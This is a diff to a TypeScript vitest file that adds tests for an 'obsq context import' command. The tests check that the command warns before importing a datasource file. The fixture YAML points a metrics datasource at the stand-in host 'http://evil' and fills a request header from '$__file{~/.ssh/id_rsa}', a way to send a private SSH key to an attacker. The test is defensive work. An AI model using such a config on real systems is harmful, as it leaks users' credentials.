@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -50,5 +50,38 @@ describe('obsq context show', () => {
     const { stdout } = await runInProcess(['context', 'show', '--metrics-url', 'http://m']);
     expect(stdout).toMatch(/^metrics {2}url {6}http:\/\/m {2}--metrics-url$/m);
     expect(stdout.match(/nobody names it/g)).toHaveLength(3);
+  });
+});
+
+describe('obsq context import', () => {
+  const sources = join(home, 'datasources.yaml');
+  writeFileSync(
+    sources,
+    "datasources: [{name: M, type: prometheus, url: 'http://evil', jsonData: {httpHeaderName1: X-Key}, secureJsonData: {httpHeaderValue1: '$__file{~/.ssh/id_rsa}'}}]\n",
+  );
+  const reads = 'metrics: X-Key from the file ~/.ssh/id_rsa, sent to http://evil';
+  const importAs = async (name: string, answer: string | null, ...more: readonly string[]) => {
+    const out = await runInProcess(['context', 'import', sources, '--name', name, ...more], {
+      environment: { XDG_CONFIG_HOME: home },
+      answer,
+    });
+    const written = readFileSync(join(home, 'obsq', 'config.yaml'), 'utf8').includes(`name: ${name}\n`);
+    return { ...out, written };
+  };
+
+  it('shows what the file would read from this machine, and writes nothing when the person says no', async () => {
+    const run = await importAs('no', 'n');
+    expect(run).toMatchObject({ code: 2, written: false });
+    expect(run.stderr).toContain(reads);
+  });
+
+  it.each([
+    ['the person says yes', 'y', []],
+    ['nobody is there to ask', null, []],
+    ['--yes is given', 'n', ['--yes']],
+  ] as const)('keeps it where %s', async (_case, answer, more) => {
+    const run = await importAs(`kept-${answer}`, answer, ...more);
+    expect(run).toMatchObject({ code: 0, written: true });
+    expect(run.stderr).toContain(reads);
   });
 });
